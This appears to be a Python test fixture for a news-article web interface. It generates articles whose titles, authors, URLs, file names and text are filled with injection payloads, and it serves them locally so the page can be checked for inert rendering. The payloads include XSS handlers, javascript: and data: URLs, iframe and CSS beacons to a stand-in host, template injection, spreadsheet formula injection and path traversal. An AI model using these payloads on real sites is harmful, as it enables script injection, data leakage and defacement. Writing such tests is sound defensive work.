"""Articles that attack the page in every field, served as any other corpus."""

from __future__ import annotations

from dataclasses import replace

from index.loaders import Failure
from index.types import Article
from qa import open_corpus
from ui.library import Library
from ui.web import serve

ATTACK = (
    "<script>window.owned=1</script><img src=http://192.0.2.1/p.png onerror=window.owned=1>"
    "</mark></blockquote></article><style>body{display:none}</style>"
    "<svg onload=window.owned=1></svg><a href=javascript:window.owned=1>x</a>"
    "![p](http://192.0.2.1/p.png)${window.owned=1}{{window.owned=1}}\u202e\x07\x1b[31m"
)
ATTACKS = (
    ATTACK,
    '"><iframe src="http://192.0.2.1/f"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "' onmouseover='window.owned=1' autofocus onfocus='window.owned=1' x='",
    "</script></textarea></title></style></template><script src=//192.0.2.1/s.js></script>",
    "<style>@import'//192.0.2.1/s.css';*{background:url(//192.0.2.1/b.png);position:fixed;inset:0}</style>",
    "<link rel=stylesheet href=//192.0.2.1/l.css><base href=//192.0.2.1/>",
    "<meta http-equiv=refresh content='0;url=//192.0.2.1/'>",
    "<form action=//192.0.2.1/><button style='position:fixed;inset:0;z-index:9999'>x</button></form>",
    "<video src=//192.0.2.1/v autoplay><source onerror=window.owned=1></video>",
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "![beacon](http://192.0.2.1/p.png) [x](javascript:window.owned=1) <http://192.0.2.1/> [a]: //192.0.2.1/",
    "\u202eesrever\u2066\u2067deppart\u200b\ufeff\u00ad\u2061\U000e0041\x00\x08\x1b]0;owned\x07\x9b31m\ud800",
    "${fetch('//192.0.2.1/')}{{constructor.constructor('owned=1')()}}<%= owned=1 %>#{owned=1}",
    "<math><mi//xlink:href='data:x,<script>owned=1</script>'></math><svg><a xlink:href=javascript:owned=1>",
    "&lt;img src=x onerror=owned=1&gt; &#60;script&#62;owned=1&#60;/script&#62; %3Cscript%3E",
    '=HYPERLINK("http://192.0.2.1/","x")\t@SUM(1)\r\n+1\n-1|cmd\'!A0',
    "unbroken" * 1_000,
)
"""Each tries something else: to run, to fetch, to break out of its place, to turn or hide what is shown."""

ADDRESSES = (
    "javascript:window.owned=1",
    "http://192.0.2.1/\"onclick='window.owned=1'x=<script>",
    "data:text/html,<script>window.owned=1</script>",
    "https://news.example/%0d%0a<svg/onload=owned=1>",
    "//192.0.2.1/",
    "vbscript:owned=1",
)
BOATS = (27, 29)


def attacking_article(number: int, attack: str = ATTACK) -> Article:
    """An article whose every field attacks, and of which every second counts other boats."""
    boats = BOATS[number % len(BOATS)]
    return Article(
        locator=f"../{attack}/{number}.txt",
        title=f"Harbour parade {attack}",
        source=f"Outlet {number} {attack}",
        author=attack,
        url=ADDRESSES[number % len(ADDRESSES)],
        published="2031-06-03",
        text=f"The harbour parade was held. {boats} boats took part in the parade {attack}. It rained.",
    )


def attacking_articles() -> list[Article]:
    """One article for every attack."""
    return [attacking_article(number, attack) for number, attack in enumerate(ATTACKS)]


def serve_hostile(port: int) -> None:
    """Serve the attacking articles, and file names that attack too."""
    with open_corpus(attacking_articles()) as corpus:
        failures = tuple(Failure(f"../../{attack}", attack) for attack in ATTACKS)
        serve(Library(replace(corpus, failures=failures)), "127.0.0.1", port, open_browser=False)
